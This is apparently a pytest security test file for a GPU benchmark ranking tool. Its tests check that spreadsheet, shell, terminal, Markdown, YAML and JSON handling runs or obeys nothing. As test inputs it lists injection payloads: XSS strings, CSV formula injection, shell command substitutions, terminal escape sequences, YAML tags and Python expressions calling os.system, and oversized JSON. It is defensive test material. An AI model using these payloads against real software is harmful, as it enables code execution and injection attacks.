"""Text that would be more than text somewhere: in a page, a spreadsheet, a terminal, YAML."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sys
import unicodedata
from dataclasses import replace
from pathlib import Path

import duckdb
import pytest

from flows.artifacts import escape_markdown
from gpurank.answers.warehouse import Answer
from gpurank.cli.main import main
from gpurank.cli.output import completion
from gpurank.cli.output.answer import Format, print_footnotes, show
from gpurank.declared.contracts import ContractError, parse_contract
from gpurank.logs.convergence_scaling import read_scaling
from gpurank.store.rounds_lock import read as read_lock
from gpurank.systems.descriptions import read_description
from gpurank.terminal_safety import say

SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
FORMULAS = (
    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1",
    "\uff0b1",
    '=HYPERLINK("https://example.org?"&A1)', "-1", "@",
)  # fmt: skip


def shown(capsys: pytest.CaptureFixture[str], form: Format, *texts: str) -> str:
    show(Answer(("system_name",), tuple((text,) for text in texts), ("VARCHAR",)), form)
    return capsys.readouterr().out


def test_a_spreadsheet_runs_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    rows = list(
        csv.reader(io.StringIO(shown(capsys, Format.csv, *FORMULAS, "H100", ""), newline=""))
    )[1:]
    assert [row[0] for row in rows[: len(FORMULAS)]] == [
        "'" + text.replace("\r", "\n") for text in FORMULAS
    ]
    assert [row[0] if row else "" for row in rows[len(FORMULAS) :]] == ["H100", ""]


def test_a_shell_is_offered_nothing_that_it_would_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bad = ("$(touch harmed)", "`id`", "b;id", "b|sh", "a\nb", ">x", "!x", "a'b", "~b", "b&", "\\")
    names = [*(f"v4.0/a/b/{name}" for name in bad), "v4.0/ok/box x8+y/resnet"]
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        con.execute("create schema marts; create table marts.result (result_id varchar)")
        con.executemany("insert into marts.result values (?)", [[name] for name in names])
    monkeypatch.setenv("GPURANK_HOME", str(tmp_path))
    assert completion.result_ids("v4.0") == ["v4.0/ok/box x8+y/resnet"]


def test_json_keeps_what_was_filed(capsys: pytest.CaptureFixture[str]) -> None:
    found = json.loads(shown(capsys, Format.json, *FORMULAS, SCRIPT))
    assert [row["system_name"] for row in found] == [*FORMULAS, SCRIPT]


STEERING = (
    "\x1b[2J\x1b]0;x\x07", "\x9b31m", "a\x08\x08b", "[bold]x[/bold]", "x\ry",
    "\x1b]8;;file:///\x07x",
    "\u202egnp.exe", "a\u2066b", "a\u2028b", "\x1b[6n", "\x0e", "\udcff",
)  # fmt: skip


def steers(out: str) -> set[str]:
    """Characters of an output that a terminal would obey."""
    kinds = {char: unicodedata.category(char) for char in set(out) - {"\n"}}
    return {char for char, kind in kinds.items() if kind in ("Cc", "Cf", "Cs", "Zl", "Zp")}


@pytest.mark.parametrize("text", STEERING)
def test_a_terminal_obeys_nothing(capsys: pytest.CaptureFixture[str], text: str) -> None:
    answer = Answer((text,), ((text,),), ("VARCHAR",), title=text)
    for form in (Format.table, Format.csv):
        show(
            answer if form is Format.table else replace(answer, columns=("a",)), form, None, (text,)
        )
    say(text)
    say(text, sys.stderr)
    print_footnotes((text,))
    shown_, told = capsys.readouterr()
    assert not steers(shown_) and not steers(told)
    assert "[bold]" in shown_ or "[bold]" not in text


def test_what_goes_wrong_with_a_file_is_told_without_steering(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("\x1b[2Jresult_0.txt", os.fsdecode(b"\xff\xfe\x9b.txt"), "\u202e.txt"):
        (tmp_path / name).write_bytes(b"")
    monkeypatch.setenv("GPURANK_HOME", str(tmp_path / "home"))
    source = str(tmp_path / "\x1b[31m\u202e")
    commands = (["watch", "--check", "--source", source], ["mine", str(tmp_path)])
    for words in commands:
        more = ["--accelerators", "8", "--accelerator", "A100\x9b"] if words[0] == "mine" else []
        monkeypatch.setattr(sys, "argv", ["gpurank", *words, *more])
        with pytest.raises(SystemExit) as ended:
            main()
        assert ended.value.code
        out, told = capsys.readouterr()
        assert told and not steers(out) and not steers(told)


def test_a_prefect_artifact_shows_markup_as_text() -> None:
    for text in (SCRIPT, "[x](javascript:alert(1))", "![x](//example.org/x.png)", "a|b\nc"):
        cell = escape_markdown(text)
        assert "<" not in cell and "\n" not in cell
        assert not re.search(r"(?<!\\)[\[\]|!]", cell)


TAGS = (
    "!!python/object/apply:os.system ['touch harmed']",
    "!!python/name:os.system",
    "!!python/module:os",
)


@pytest.mark.parametrize("tag", TAGS)
def test_yaml_makes_no_objects(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tag: str) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ContractError):
        parse_contract(f"table: {tag}\n", "raw/x.yml")
    path = tmp_path / "rounds.lock.yml"
    path.write_text(f"v4.0: {tag}\n", encoding="utf-8")
    assert read_lock(path) == {}
    assert [item.name for item in tmp_path.iterdir()] == [path.name]


def test_a_system_description_is_never_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for text in (
        b"system_name = __import__('os').system('touch harmed')",
        b"{'system_name': __import__('os').system('touch harmed')}",
        *(tag.encode() for tag in TAGS),
    ):
        read_description(text, "Sub/systems/x.json")
    assert not list(tmp_path.iterdir())


JSONS = {
    "deep": b'{"a":' * 200_000,
    "deep_closed": b'{"scaling_factor":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "long_integer": b'{"scaling_factor": ' + b"9" * 1_000_000 + b"}",
    "exponent": b'{"scaling_factor": 1e999999999}',
    "twice": b'{"scaling_factor": 1.1, "scaling_factor": 1.2}',
    "keys": b"{" + b",".join(b'"k%d": 1' % n for n in range(100_000)) + b"}",
    "surrogate": b'{"scaling_factor": "\\ud800"}',
    "nul": b'{"scaling_factor\\u0000": 1.1}',
}


@pytest.mark.parametrize("name", JSONS)
def test_json_of_any_shape_gives_no_factor_and_a_reason(name: str) -> None:
    factor, problem = read_scaling(JSONS[name])
    assert factor is None and problem is not None
    description = read_description(JSONS[name], "Sub/systems/x.json")
    assert description.issues
    json.loads(description.fields_json or "{}")
